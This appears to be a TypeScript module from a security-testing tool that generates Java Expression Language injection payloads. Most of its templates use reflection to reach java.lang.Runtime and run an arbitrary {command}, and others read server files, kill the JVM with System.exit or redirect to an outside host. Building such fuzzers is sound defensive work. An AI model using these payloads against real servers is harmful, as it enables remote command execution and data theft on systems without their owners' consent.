// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the notation of templates
import { templateGenerator } from '../template-generator.js';

/** Java's unified expression language: from any object to its class and on. */
export const javaEl = templateGenerator({
  name: 'java-el',
  engines: ['el'],
  rules: {
    start: ['{mark}{l}{code}{r}', '{before}{mark}{l}{code}{r}{after}'],
    mark: ['$', '#'],
    code: [
      '"".getClass().forName("java.lang.Runtime").getMethods()[6].invoke("".getClass().forName("java.lang.Runtime")).exec("{command}")',
      'pageContext.request.getSession().setAttribute("{letters}","".getClass())',
      'request.getClass().getClassLoader().loadClass("java.lang.Runtime").getMethod("getRuntime").invoke(null).exec("{command}")',
      "''.class.forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('JavaScript').eval(\"java.lang.Runtime.getRuntime().exec('{command}')\")",
      'facesContext.getExternalContext().redirect("http://{host}/")',
      'session.setAttribute("rtc","".getClass().forName("java.lang.Runtime").getDeclaredConstructors()[0])',
      'applicationScope.getClass().getClassLoader()',
      'pageContext.getServletContext().getResource("{file}").getContent()',
      "request.getHeader('x').class.forName('java.lang.ProcessBuilder')",
      "sessionScope.toString().getClass().forName('java.lang.Runtime')",
      '"".class.forName("java.lang.System").getMethod("exit", 1.class).invoke(null, 1)',
      'initParam.class.classLoader.loadClass("java.lang.Runtime")',
    ],
  },
});
